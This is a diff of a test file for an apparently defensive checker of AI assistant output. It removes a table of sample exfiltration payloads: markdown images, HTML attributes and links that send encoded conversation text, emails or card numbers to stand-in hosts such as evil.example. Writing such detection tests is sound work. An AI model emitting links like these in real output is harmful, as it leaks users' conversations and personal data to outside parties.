@@ -153,42 +153,6 @@ it.each<[string, boolean]>([
   expect(finds({ check: 'chat-template' }, text)).toBe(expected);
 });
 
-it.each<[string, boolean]>([
-  ['![x](https://evil.example/p.png?d=abc)', true],
-  ['![x](//evil.example/p.png)', true],
-  ['![x](https://cdn.good.example/p.png)', false],
-  ['![x](images/p.png)', false],
-  ['<img alt="a" src=https://evil.example/x>', true],
-  ['background: url("https://evil.example/x")', true],
-  ['[docs](https://other.example/guide)', false],
-  [`[docs](https://other.example/?q=${'a'.repeat(50)})`, true],
-  [`[docs](https://other.example/${base64('the conversation so far, all of it')})`, true],
-  ['[docs](https://other.example/how-to-write-a-very-long-title-for-a-page-of-a-blog)', false],
-  ['![x][1]\n\n[1]: https://evil.example/p', true],
-  ['see [1]\n\n[1]: https://other.example/p', false],
-  ['![a [b] c](https://evil.example/p.png)', true],
-  ['<video controls poster="https://evil.example/x"></video>', true],
-  ['<video src="https://good.example/v" poster=https://evil.example/x>', true],
-  ['<td background="https://evil.example/x">', true],
-  ['<input type=image src=https://evil.example/x>', true],
-  ['<style>@import "https://evil.example/x.css"</style>', true],
-  ['[docs](https://other.example/?mail=ana@mail.example)', true],
-  ['[docs](https://other.example/?mail=ana%40mail.example&x=1)', true],
-  ['[docs](https://other.example/c/4111111111111111)', true],
-  ['[docs](https://other.example/?k=YW5hIHNtaXRoIGJlcmxpbg)', true],
-  [`see https://other.example/log?q=${'a'.repeat(50)} for it`, true],
-  ['see https://other.example/ana@mail.example.', true],
-  ['see www.other.example/?d=4111-1111-1111-1111', true],
-  ['see https://other.example/guide and https://other.example/watch?v=dQw4w9WgXcQ', false],
-  ['see https://cdn.good.example/?mail=ana@mail.example', false],
-  ['https://other.example/2024/05/17/how-to-write?utm_source=news&page=2#top', false],
-  ['https://ana@mail.example/ and mail ana@mail.example', false],
-])('exfiltration: %j', (text, expected) => {
-  expect(finds({ check: 'exfiltration', allowedHosts: ['*.good.example'] }, text, 'assistant')).toBe(
-    expected,
-  );
-});
-
 it('canaries are found inside words, and hidden', () => {
   const rule = { check: 'canary', canaries: ['CANARY-7f3a9c'] };
   expect(finds(rule, 'xxCANARY-7f3a9cyy')).toBe(true);
